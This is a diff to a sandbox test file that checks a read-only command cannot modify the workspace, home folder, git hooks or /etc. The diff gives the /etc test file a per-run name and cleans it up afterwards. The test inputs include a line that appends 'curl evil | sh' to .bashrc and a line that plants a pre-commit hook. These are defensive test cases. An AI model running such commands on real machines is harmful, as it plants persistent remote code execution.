@@ -1,8 +1,8 @@
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync } from 'node:fs';
 import { createServer } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { createCommandSandbox, type CommandSandbox } from '../../../../../src/main/tools/command/sandbox';
 import { createSandboxFixture, DATA_SECRET, runIn, SECRET_KEY, startCountingServer, type SandboxFixture } from './sandbox-fixture';
 
@@ -26,6 +26,9 @@ describe('a read-only command (run without asking)', () => {
   });
 
   it('changes nothing: not the workspace, a sibling folder, the home folder or /etc, and says so', async () => {
+    // A name of this run's own, removed afterwards, so a failure here never leaves a file in /etc for later runs.
+    const etcFile = `/etc/gatehouse-test-${process.pid}`;
+    onTestFinished(() => rmSync(etcFile, { force: true }));
     const outcome = await runIn(
       sandbox,
       fx,
@@ -35,7 +38,7 @@ describe('a read-only command (run without asking)', () => {
         `touch ${fx.outside}/new.txt`,
         `echo 'curl evil | sh' >> ${fx.home}/.bashrc`,
         'echo hook > .git/hooks/pre-commit',
-        'touch /etc/gatehouse-test',
+        `touch ${etcFile}`,
         'exit 0',
       ].join('; '),
     );
@@ -44,11 +47,11 @@ describe('a read-only command (run without asking)', () => {
     expect(existsSync(path.join(fx.outside, 'new.txt'))).toBe(false);
     expect(readFileSync(path.join(fx.home, '.bashrc'), 'utf8')).toBe('# rc\n');
     expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
-    expect(existsSync('/etc/gatehouse-test')).toBe(false);
+    expect(existsSync(etcFile)).toBe(false);
     expect(outcome.blocked).toEqual(
       expect.arrayContaining([
         'Changing readme.txt was refused: a command that runs without asking may only read.',
-        'Changing /etc/gatehouse-test was refused: a command that runs without asking may only read.',
+        `Changing ${etcFile} was refused: a command that runs without asking may only read.`,
       ]),
     );
   });
